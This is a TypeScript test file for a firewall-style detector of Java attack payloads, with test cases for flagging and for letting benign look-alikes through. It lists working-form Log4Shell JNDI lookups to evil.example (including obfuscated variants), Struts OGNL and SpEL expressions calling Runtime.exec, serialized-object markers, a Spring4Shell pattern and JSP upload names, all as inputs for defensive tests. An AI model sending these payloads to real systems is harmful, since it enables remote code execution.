import type { Paranoia } from '../types';
import { javaDetector, resolveLookups } from './java.detector';

const inspect = (value: string, paranoia: Paranoia = 1) => javaDetector.inspect({ point: 'header.x-api-version', value, raw: value }, { paranoia });

describe('resolveLookups', () => {
  it('given nested lookups, when resolved, then the hidden word appears', () => {
    expect(resolveLookups('${${lower:J}${upper:n}${::-d}${env:NOPE:-i}:ldap://x}')).toBe('${jNdi:ldap://x}');
  });
});

describe('javaDetector', () => {
  it.each([
    ['${jndi:ldap://evil.example:1389/a}', 'java/jndi-lookup'],
    ['${JNDI:rmi://evil.example/a}', 'java/jndi-lookup'],
    ['${${lower:j}ndi:ldap://evil.example/a}', 'java/obfuscated-jndi-lookup'],
    ['${${::-j}${::-n}${::-d}${::-i}:dns://evil.example/a}', 'java/obfuscated-jndi-lookup'],
    ['${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//evil.example/a}', 'java/obfuscated-jndi-lookup'],
    ['rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0', 'java/serialized-object'],
    ['aced0005737200116a6176612e7574696c2e48617368536574', 'java/serialized-object'],
    ["%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}", 'java/ognl-expression'],
    ["%{#context['xwork.MethodAccessor.denyMethodExecution']=false}", 'java/ognl-expression'],
    ["T(java.lang.Runtime).getRuntime().exec('id')", 'java/process-execution'],
    ['new java.lang.ProcessBuilder({"id"}).start()', 'java/process-execution'],
    ['class.module.classLoader.resources.context.parent.pipeline.first.pattern=x', 'java/gadget-class'],
    ['javax.naming.InitialContext', 'java/gadget-class'],
  ])('given %j, when inspected at paranoia 1, then it is a %s hit', (payload, detector) => {
    const hit = inspect(payload);
    expect(hit?.detector).toBe(detector);
    expect(hit?.type).toBe('java');
    expect(hit?.point).toBe('header.x-api-version');
  });

  it.each([
    'Total ${amount} due',
    '${HOME}/bin',
    'I love java and coffee',
    'cG9zdGVkIGJ5IGEgdXNlcg==',
    'ace00051 is an order code',
    'Use #hashtags and @mentions (please)',
    '50%{discount}',
    'f47ac10b-58cc-4372-a567-0e02b2c3d479',
  ])('given the benign %j, when inspected at paranoia 1, then there is no hit', (value) => {
    expect(inspect(value)).toBeNull();
  });

  it('given a class name from the list, when inspected at paranoia 1, then it is a gadget-class hit', () => {
    expect(inspect('java.io.File is a class', 1)?.detector).toBe('java/gadget-class');
    expect(inspect('org.apache.commons.collections.functors.InvokerTransformer', 1)?.detector).toBe('java/gadget-class');
  });

  it('given a stack-trace line naming only an everyday class, when inspected, then it waits for paranoia 2', () => {
    const line = 'Caused by: java.io.IOException: Broken pipe at Handler.write(Handler.java:42)';
    expect(inspect(line, 1)).toBeNull();
    expect(inspect(line, 2)?.detector).toBe('java/gadget-class');
    expect(inspect('Unknown constant for java.lang.Enum in payload', 1)).toBeNull();
  });

  it('given braces written as character references, when inspected, then the JNDI lookup is found', () => {
    expect(inspect('$&lbrace;jndi:ldap://evil.example/a}')?.detector).toBe('java/jndi-lookup');
  });

  it.each([
    ['header.x-filename', 'a.jsp'],
    ['header.x_filename', 'B.JSP'],
    ['header.x-file-name', 'foo.jspx...'],
    ['body.file#filename', 'shell. jspx'],
    ['header.x-filename', 'shell.jsp '],
  ])('given the upload of a Java page at %s (%j), when inspected, then it is a java/script-upload hit', (point, name) => {
    expect(javaDetector.inspect({ point, value: name, raw: name }, { paranoia: 1 })?.detector).toBe('java/script-upload');
  });

  it.each([
    ['header.x-filename', 'report.jsp.pdf'],
    ['header.x-filename', 'jsp-notes.txt'],
    ['query.page', 'index.jsp'],
  ])('given %s %j, when inspected, then no upload fires', (point, name) => {
    expect(javaDetector.inspect({ point, value: name, raw: name }, { paranoia: 1 })?.detector).not.toBe('java/script-upload');
  });

  it.each(['java.lang.Runtime', 'java.Runtime', 'java.io.File', 'ProcessBuilder.evil.clonetransformer', 'org.omg.CORBA'])(
    'given the class path %j as a whole value (a parameter name a binder evaluates), when inspected at paranoia 1, then it is a java hit',
    (name) => {
      expect(inspect(name)?.type).toBe('java');
    },
  );

  it.each(['javascript is fun', 'com.example.app', 'org.chart.title', 'java coffee'])('given the look-alike %j, when inspected at paranoia 1, then nothing fires', (text) => {
    expect(inspect(text)).toBeNull();
  });

  it.each(['rO0ABXNyABFqYXZh', 'KztAAU', 'xCs7QAFzcgAR'])('given the serialization magic in base64 at any alignment (%j), when inspected at paranoia 1, then it is a java/serialized-object hit', (text) => {
    expect(inspect(text)?.detector).toBe('java/serialized-object');
  });

  it.each(['ro0ab', 'kztaau', 'Cs7Q'])('given the look-alike %j, when inspected, then no serialized object fires', (text) => {
    expect(inspect(text)?.detector).not.toBe('java/serialized-object');
  });
});
